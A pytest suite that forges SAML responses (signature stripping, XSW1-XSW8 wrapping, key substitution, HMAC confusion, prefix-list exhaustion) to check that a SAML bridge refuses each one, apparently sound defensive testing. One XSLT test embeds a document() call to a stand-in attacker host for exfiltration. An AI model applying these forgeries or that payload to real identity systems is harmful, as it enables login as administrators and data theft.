"""Signature attacks: stripping, tampering, wrapping (XSW1-XSW8 as catalogued by SAML Raider, plus
the StatusDetail variant), key substitution and algorithm games. Each builds on a valid response
signed by the pysaml2 IdP and changes it at the XML level."""

from __future__ import annotations

import datetime as dt

import pytest
import xmlsec
from lxml import etree

from bridge.saml.signature_policy import MAX_INCLUSIVE_PREFIXES, MAX_PREFIX_LOOKUPS
from tests.attacks import xml_tools as x
from tests.attacks.conftest import Attack, clone

ADMIN = "admin-0000"


def _evil(assertion: etree._Element) -> etree._Element:
    """The attacker's copy of the assertion: a new ID, an admin's NameID, no signature."""
    evil = clone(assertion)
    evil.set("ID", x.new_id())
    x.strip_signature(evil)
    evil.find(f"{{{x.SAML}}}Subject/{{{x.SAML}}}NameID").text = ADMIN
    return evil


def test_positive_control_the_unmutated_response_is_accepted(attack: Attack) -> None:
    login, root = attack.fresh()
    attack.accepted(attack.post(root), login)


def test_positive_control_resigned_by_the_idp_key_is_accepted(attack: Attack) -> None:
    login, root = attack.mutated(lambda root: None)
    attack.accepted(attack.post(root), login)


# --- stripping -----------------------------------------------------------------------------------

def test_assertion_signature_stripped(attack: Attack) -> None:
    _, root = attack.fresh()
    x.strip_signature(x.assertion(root))
    x.sign(root, attack.idp_keys)  # even with a valid Response signature around it
    attack.refused(attack.post(root), "saml_signature_missing")


def test_both_signatures_stripped(attack: Attack) -> None:
    _, root = attack.fresh()
    x.strip_signature(x.assertion(root))
    x.strip_signature(root)
    x.name_id(root).text = ADMIN
    attack.refused(attack.post(root), "saml_signature_missing")


def test_response_signature_stripped_and_unsigned_parts_tampered(attack: Attack) -> None:
    # The signed assertion still stands, so stripping the Response signature only exposes the
    # Response's own attributes; changing them must not get past the checks that read them.
    _, root = attack.fresh()
    x.strip_signature(root)
    root.set("InResponseTo", "_forged-request")
    attack.refused(attack.post(root), "saml_request_mismatch")


# --- tampering under the original signature ------------------------------------------------------

def test_nameid_changed_under_the_original_signature(attack: Attack) -> None:
    _, root = attack.fresh()
    x.name_id(root).text = ADMIN
    attack.refused(attack.post(root), "saml_signature_invalid")


def test_attribute_value_changed_under_the_original_signature(attack: Attack) -> None:
    _, root = attack.fresh()
    value = x.one(root, "//saml:Attribute[@Name='urn:oid:1.3.6.1.4.1.5923.1.5.1.1']"
                        "/saml:AttributeValue[1]")
    value.text = "domain-admins"
    attack.refused(attack.post(root), "saml_signature_invalid")


def test_assertion_tampered_with_only_its_own_signature_left(attack: Attack) -> None:
    _, root = attack.fresh()
    x.strip_signature(root)
    x.name_id(root).text = ADMIN
    attack.refused(attack.post(root), "saml_signature_invalid")


# --- XML signature wrapping ------------------------------------------------------------------------

def test_xsw1_signed_response_hidden_in_the_signature_of_an_evil_response(attack: Attack) -> None:
    _, original = attack.fresh()
    evil = clone(original)
    evil.set("ID", x.new_id())
    signature = x.signature_of(evil)
    signature.set("Id", x.new_id())  # every ID unique, so only the structure can give it away
    evil.replace(x.assertion(evil), _evil(x.assertion(original)))
    signature.append(original)
    attack.refused(attack.post(evil), "saml_assertion_count")


def test_xsw2_signed_response_detached_beside_the_signature(attack: Attack) -> None:
    _, original = attack.fresh()
    evil = clone(original)
    evil.set("ID", x.new_id())
    signature = x.signature_of(evil)
    signature.set("Id", x.new_id())
    evil.replace(x.assertion(evil), _evil(x.assertion(original)))
    evil.insert(evil.index(signature), original)
    attack.refused(attack.post(evil), "saml_assertion_count")


def test_xsw3_evil_assertion_before_the_signed_one(attack: Attack) -> None:
    _, root = attack.fresh()
    x.strip_signature(root)
    signed = x.assertion(root)
    root.insert(root.index(signed), _evil(signed))
    attack.refused(attack.post(root), "saml_assertion_count")


def test_xsw4_signed_assertion_inside_the_evil_one(attack: Attack) -> None:
    _, root = attack.fresh()
    x.strip_signature(root)
    signed = x.assertion(root)
    evil = _evil(signed)
    root.replace(signed, evil)
    evil.append(signed)
    attack.refused(attack.post(root), "saml_assertion_count")


def test_xsw5_evil_assertion_keeps_the_signature_original_appended(attack: Attack) -> None:
    _, root = attack.fresh()
    x.strip_signature(root)
    signed = x.assertion(root)
    evil = clone(signed)
    evil.set("ID", x.new_id())
    evil.find(f"{{{x.SAML}}}Subject/{{{x.SAML}}}NameID").text = ADMIN
    root.replace(signed, evil)
    x.strip_signature(signed)
    root.append(signed)
    attack.refused(attack.post(root), "saml_assertion_count")


def test_xsw6_original_assertion_inside_the_copied_signature(attack: Attack) -> None:
    _, root = attack.fresh()
    x.strip_signature(root)
    signed = x.assertion(root)
    evil = clone(signed)
    evil.set("ID", x.new_id())
    evil.find(f"{{{x.SAML}}}Subject/{{{x.SAML}}}NameID").text = ADMIN
    root.replace(signed, evil)
    x.strip_signature(signed)
    x.signature_of(evil).append(signed)
    attack.refused(attack.post(root), "saml_assertion_count")


def test_xsw7_evil_assertion_in_extensions(attack: Attack) -> None:
    _, root = attack.fresh()
    x.strip_signature(root)
    extensions = etree.Element(f"{{{x.SAMLP}}}Extensions")
    extensions.append(_evil(x.assertion(root)))
    root.insert(1, extensions)
    attack.refused(attack.post(root), "saml_assertion_count")


def test_xsw8_original_assertion_in_a_ds_object(attack: Attack) -> None:
    _, root = attack.fresh()
    x.strip_signature(root)
    signed = x.assertion(root)
    evil = clone(signed)
    evil.set("ID", x.new_id())
    evil.find(f"{{{x.SAML}}}Subject/{{{x.SAML}}}NameID").text = ADMIN
    root.replace(signed, evil)
    x.strip_signature(signed)
    etree.SubElement(x.signature_of(evil), f"{{{x.DS}}}Object").append(signed)
    attack.refused(attack.post(root), "saml_assertion_count")


def test_ds_object_with_the_signed_assertion_removed_from_view(attack: Attack) -> None:
    # Same as XSW8 but with the signed copy renamed so that only one Assertion remains.
    _, root = attack.fresh()
    x.strip_signature(root)
    signed = x.assertion(root)
    evil = clone(signed)
    evil.find(f"{{{x.SAML}}}Subject/{{{x.SAML}}}NameID").text = ADMIN
    holder = etree.SubElement(x.signature_of(evil), f"{{{x.DS}}}Object")
    hidden = clone(signed)
    hidden.tag = f"{{{x.SAML}}}Advice"
    holder.append(hidden)
    root.replace(signed, evil)
    attack.refused(attack.post(root), "saml_signature_structure")


def test_status_detail_wrapping(attack: Attack) -> None:
    _, root = attack.fresh()
    status = x.one(root, "/samlp:Response/samlp:Status")
    detail = etree.SubElement(status, f"{{{x.SAMLP}}}StatusDetail")
    detail.append(_evil(x.assertion(root)))
    attack.refused(attack.post(root), "saml_assertion_count")


def test_second_unsigned_assertion_appended(attack: Attack) -> None:
    _, root = attack.fresh()
    root.append(_evil(x.assertion(root)))
    attack.refused(attack.post(root), "saml_assertion_count")


def test_signature_moved_to_another_element(attack: Attack) -> None:
    _, root = attack.fresh()
    x.strip_signature(root)
    signed = x.assertion(root)
    evil = _evil(signed)
    extensions = etree.Element(f"{{{x.SAMLP}}}Extensions")
    extensions.append(x.signature_of(signed))
    root.replace(signed, evil)
    root.insert(1, extensions)
    attack.refused(attack.post(root), "saml_signature_structure")


def test_duplicate_ids_collide(attack: Attack) -> None:
    _, root = attack.fresh()
    assertion = x.assertion(root)
    etree.SubElement(x.one(root, "/samlp:Response/samlp:Status"),
                     f"{{{x.SAMLP}}}StatusMessage", ID=assertion.get("ID"))
    attack.refused(attack.post(root), "saml_signature_structure")


def test_reference_to_another_element(attack: Attack) -> None:
    # A genuine IdP signature over the Response, moved into the assertion as if it signed that.
    _, root = attack.fresh()
    x.strip_signature(x.assertion(root))
    x.sign(root, attack.idp_keys)
    signature = x.signature_of(root)
    x.assertion(root).insert(1, signature)
    attack.refused(attack.post(root), "saml_signature_structure")


def test_empty_reference_uri_signs_the_document_not_the_assertion(attack: Attack) -> None:
    _, root = attack.fresh()
    x.strip_signature(root)
    x.sign(x.assertion(root), attack.idp_keys, uri="")
    attack.refused(attack.post(root), "saml_signature_structure")


# --- keys ------------------------------------------------------------------------------------------

def test_resigned_with_an_attacker_key(attack: Attack) -> None:
    _, root = attack.fresh()
    x.name_id(root).text = ADMIN
    x.resign(root, x.attacker_keypair())
    attack.refused(attack.post(root), "saml_signature_invalid")


def test_keyinfo_certificate_faked_and_resigned(attack: Attack) -> None:
    # The attacker's certificate claims the IdP's name; KeyInfo carries it. Only metadata counts.
    _, root = attack.fresh()
    x.name_id(root).text = ADMIN
    forger = x.attacker_keypair()
    x.resign(root, forger)
    for certificate in root.iter(f"{{{x.DS}}}X509Certificate"):
        assert certificate.text.strip().replace("\n", "") == forger.cert_b64
    attack.refused(attack.post(root), "saml_signature_invalid")


def test_keyinfo_carries_the_idp_certificate_but_the_attacker_signed(attack: Attack) -> None:
    _, root = attack.fresh()
    x.name_id(root).text = ADMIN
    x.resign(root, x.attacker_keypair())
    for certificate in root.iter(f"{{{x.DS}}}X509Certificate"):
        certificate.text = attack.idp_keys.cert_b64
    attack.refused(attack.post(root), "saml_signature_invalid")


# --- algorithms ----------------------------------------------------------------------------------

def _hmac_sign(element: etree._Element, secret: bytes) -> None:
    x.strip_signature(element)
    signature = xmlsec.template.create(element, xmlsec.constants.TransformExclC14N,
                                       xmlsec.constants.TransformHmacSha256, ns="ds")
    element.insert(1, signature)
    reference = xmlsec.template.add_reference(signature, xmlsec.constants.TransformSha256,
                                              uri="#" + element.get("ID"))
    xmlsec.template.add_transform(reference, xmlsec.constants.TransformEnveloped)
    xmlsec.template.add_transform(reference, xmlsec.constants.TransformExclC14N)
    context = xmlsec.SignatureContext()
    context.key = xmlsec.Key.from_binary_data(xmlsec.constants.KeyDataHmac, secret)
    xmlsec.tree.add_ids(element, ["ID"])
    context.sign(signature)


def test_hmac_keyed_with_the_idp_public_certificate(attack: Attack) -> None:
    # Algorithm confusion: the public certificate used as an HMAC secret.
    _, root = attack.fresh()
    x.strip_signature(root)
    x.name_id(root).text = ADMIN
    _hmac_sign(x.assertion(root), attack.idp_keys.cert_pem)
    attack.refused(attack.post(root), "saml_signature_algorithm")


def test_sha1_signature_is_refused_by_default(attack: Attack) -> None:
    _, root = attack.fresh()
    attack.resign(root, method=x.RSA_SHA1, digest=x.SHA1)
    attack.refused(attack.post(root), "saml_signature_algorithm")


def test_md5_algorithms_are_refused(attack: Attack) -> None:
    _, root = attack.fresh()
    for method in root.iter(f"{{{x.DS}}}SignatureMethod"):
        method.set("Algorithm", "http://www.w3.org/2001/04/xmldsig-more#rsa-md5")
    attack.refused(attack.post(root), "saml_signature_algorithm")
    _, root = attack.fresh()
    for digest in root.iter(f"{{{x.DS}}}DigestMethod"):
        digest.set("Algorithm", "http://www.w3.org/2001/04/xmldsig-more#md5")
    attack.refused(attack.post(root), "saml_signature_algorithm")


def test_xslt_transform_is_refused_before_it_runs(attack: Attack) -> None:
    _, root = attack.fresh()
    transforms = x.one(root, "/samlp:Response/saml:Assertion/ds:Signature/ds:SignedInfo/"
                             "ds:Reference/ds:Transforms")
    xslt = etree.SubElement(transforms, f"{{{x.DS}}}Transform",
                            Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116")
    stylesheet = etree.SubElement(xslt, "{http://www.w3.org/1999/XSL/Transform}stylesheet",
                                  version="1.0")
    etree.SubElement(stylesheet, "{http://www.w3.org/1999/XSL/Transform}value-of",
                     select="document('http://attacker.invalid/exfiltrate')")
    attack.refused(attack.post(root), "saml_signature_algorithm")


def test_xpath_transform_is_refused(attack: Attack) -> None:
    _, root = attack.fresh()
    transforms = x.one(root, "/samlp:Response/saml:Assertion/ds:Signature/ds:SignedInfo/"
                             "ds:Reference/ds:Transforms")
    xpath = etree.SubElement(transforms, f"{{{x.DS}}}Transform",
                             Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116")
    etree.SubElement(xpath, f"{{{x.DS}}}XPath").text = "not(ancestor-or-self::saml:Subject)"
    attack.refused(attack.post(root), "saml_signature_algorithm")


def _prefixes(count: int) -> str:
    return " ".join(["xs", "xsi", *(f"p{i}" for i in range(count - 2))])


def test_a_prefix_list_of_the_usual_length_verifies(attack: Attack) -> None:
    """The IdP's own signature with an InclusiveNamespaces PrefixList at the limit."""
    login, root = attack.fresh()
    x.sign(x.assertion(root), attack.idp_keys, prefixes=_prefixes(MAX_INCLUSIVE_PREFIXES))
    x.sign(root, attack.idp_keys)
    attack.accepted(attack.post(root), login)


@pytest.mark.parametrize("where", ["transform", "SignedInfo"])
def test_a_long_prefix_list_is_refused_before_canonicalization(attack: Attack,
                                                               where: str) -> None:
    """Canonicalization looks every listed prefix up at every element: thousands in a message
    of 50 kB cost seconds of CPU, whoever signed it (or did not). Refused at the policy check,
    before any digest, and one over the limit is refused as thousands would be."""
    _, root = attack.fresh()
    if where == "transform":
        x.sign(x.assertion(root), attack.idp_keys, prefixes=_prefixes(MAX_INCLUSIVE_PREFIXES + 1))
        x.sign(root, attack.idp_keys)  # a real signature of the IdP's: the list alone is refused
    else:
        method = x.one(root, "/samlp:Response/ds:Signature/ds:SignedInfo/ds:CanonicalizationMethod")
        etree.SubElement(method, "{http://www.w3.org/2001/10/xml-exc-c14n#}InclusiveNamespaces",
                         PrefixList=" " * 4000)  # the default namespace, 4,001 times
    attack.refused(attack.post(root), "saml_signature_algorithm")


def test_a_prefix_list_over_a_large_document_is_refused(attack: Attack) -> None:
    """Each listed prefix is looked up at every element canonicalized: sixteen over a hundred
    thousand elements cost as much as thousands over a few. The IdP's own signature."""
    _, root = attack.fresh()
    values = x.one(root, "(//saml:Assertion//saml:Attribute)[1]")
    for i in range(MAX_PREFIX_LOOKUPS // MAX_INCLUSIVE_PREFIXES):
        etree.SubElement(values, f"{{{x.SAML}}}AttributeValue").text = f"v{i}"
    x.sign(x.assertion(root), attack.idp_keys, prefixes=_prefixes(MAX_INCLUSIVE_PREFIXES))
    x.sign(root, attack.idp_keys)
    attack.refused(attack.post(root), "saml_signature_algorithm")


def test_inclusive_canonicalization_is_refused(attack: Attack) -> None:
    _, root = attack.fresh()
    for method in root.iter(f"{{{x.DS}}}CanonicalizationMethod"):
        method.set("Algorithm", "http://www.w3.org/TR/2001/REC-xml-c14n-20010315#WithComments")
    attack.refused(attack.post(root), "saml_signature_algorithm")


def test_sha1_exception_accepts_until_its_sunset_and_says_so(attack: Attack, idp_dir) -> None:  # type: ignore[no-untyped-def]
    bridge = attack.browser.bridge
    idp = bridge.idps["dev"]
    tomorrow = dt.date.today() + dt.timedelta(days=1)
    yesterday = dt.date.today() - dt.timedelta(days=1)
    idp.settings = type(idp.settings)(**{**idp.settings.__dict__,
                                         "insecure_allow_sha1_until": tomorrow})
    login, root = attack.fresh()
    attack.resign(root, method=x.RSA_SHA1, digest=x.SHA1)
    attack.accepted(attack.post(root), login)
    with bridge.db.transaction() as session:
        from bridge.store.models import AuditEvent

        success = session.query(AuditEvent).filter_by(event="login", outcome="success").one()
        assert '"sha1": true' in success.detail_json

    idp.settings = type(idp.settings)(**{**idp.settings.__dict__,
                                         "insecure_allow_sha1_until": yesterday})
    before = attack.issued()
    _, root = attack.fresh()
    attack.resign(root, method=x.RSA_SHA1, digest=x.SHA1)
    attack.refused(attack.post(root), "saml_signature_algorithm", before)


@pytest.mark.parametrize("where", ["Response", "Assertion"])
def test_a_relative_namespace_uri_is_refused_not_a_server_error(attack: Attack, where: str) -> None:
    """libxml2's canonicalization will not render a relative namespace URI; a declaration of one,
    in the signed content or around it, is a refused signature (400), never a 500."""
    _, root = attack.fresh()
    text = etree.tostring(root)
    element = root if where == "Response" else x.assertion(root)
    tag = f"<{element.prefix}:{where} "
    assert tag.encode() in text
    text = text.replace(tag.encode(), tag.encode() + b'xmlns:rel="relative/uri" ', 1)
    attack.refused(attack.post(text), "saml_signature_invalid")
